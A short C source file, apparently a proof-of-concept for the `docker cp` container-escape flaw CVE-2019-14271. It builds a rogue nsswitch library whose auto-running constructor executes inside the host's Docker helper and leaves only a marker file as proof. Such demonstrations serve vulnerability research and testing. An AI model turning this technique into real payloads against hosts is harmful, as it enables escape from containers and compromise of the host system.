/*
 * guest.so - what an image has for the C library of a program of the host that
 * changes its root and then asks for a name: a service of nsswitch.conf(5).
 * Loaded, it is the host's program, with what that may and has open: so
 * `docker cp` was taken over (CVE-2019-14271). It leaves a mark in the root.
 */
#include "attack.h"

__attribute__((constructor)) static void arrive(void)
{
    close(open("/loaded", O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
}
